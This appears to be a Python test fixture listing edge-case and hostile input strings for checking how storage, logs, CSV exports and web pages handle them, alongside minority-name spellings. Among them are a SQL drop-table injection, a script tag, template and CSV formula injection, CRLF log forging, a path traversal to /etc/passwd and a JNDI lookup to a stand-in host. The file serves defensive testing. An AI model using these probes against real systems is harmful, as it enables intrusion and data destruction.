"""The catalogue of bad texts: 30 that break databases, logs, tables, pages and readers.

`CLEAN` are people's real names and marks: they may be written, and come back as they were sent.
`UNSOUND` must never be written: what a reader cannot see, or what turns the text around.
"""

from __future__ import annotations

from tests.badinput.value import Value, given

TEXT: tuple[Value, ...] = (
    given("nul", "a\x00b"),
    given("lone-high", "a\ud842"),
    given("lone-low", "a\udfb7"),
    given("reversed-pair", "\udfb7\ud842"),
    given("1MB", "长" * 1_000_000, "String"),
    given("sql", "'; drop table loan; --", "String"),
    given("like-wildcards", "%_%", "String"),
    given("crlf-log", "a\r\nlevel=info status=200", "String"),
    given("ansi", "\x1b[31mred", "String"),
    given("csv-equals", "=1+1", "String"),
    given("csv-at", "@SUM(A1)", "String"),
    given("html", "<script>alert(1)</script>", "String"),
    given("template", "{{7*7}}${7*7}{amount}", "String"),
    given("bom", "\ufeffa", "String"),
    given("zero-width", "a\u200bb", "String"),
    given("homoglyph", "А1", "String"),  # Cyrillic А.
    given("rtl-override", "a\u202eb", "String"),
    given("combining-1000", "e" + "\u0301" * 1000, "String"),
    given("emoji-zwj", "👨\u200d👩\u200d👧", "String"),
    given("cjk-ext-b", "𠮷", "String"),
    given("pua", "\ue000", "String"),
    given("noncharacter", "a\uffff", "String"),
    given("nfd", "Cafe\u0301", "String"),
    given("empty", "", "String"),
    given("spaces", "   ", "String"),
    given("null", None),
    given("int", 7),
    given("list", [["a"]]),
    given("path", "../../etc/passwd", "String"),
    given("jndi", "${jndi:ldap://x.invalid/a}", "String"),
)

MINORITY_NAMES: tuple[Value, ...] = (
    given("dot-middle", "买买提·艾力", "String"),
    given("dot-katakana", "买买提・艾力", "String"),
    given("dot-bullet", "买买提•艾力", "String"),
)

UNSOUND = frozenset(
    {"ansi", "bom", "zero-width", "rtl-override", "emoji-zwj", "pua", "noncharacter"}
)
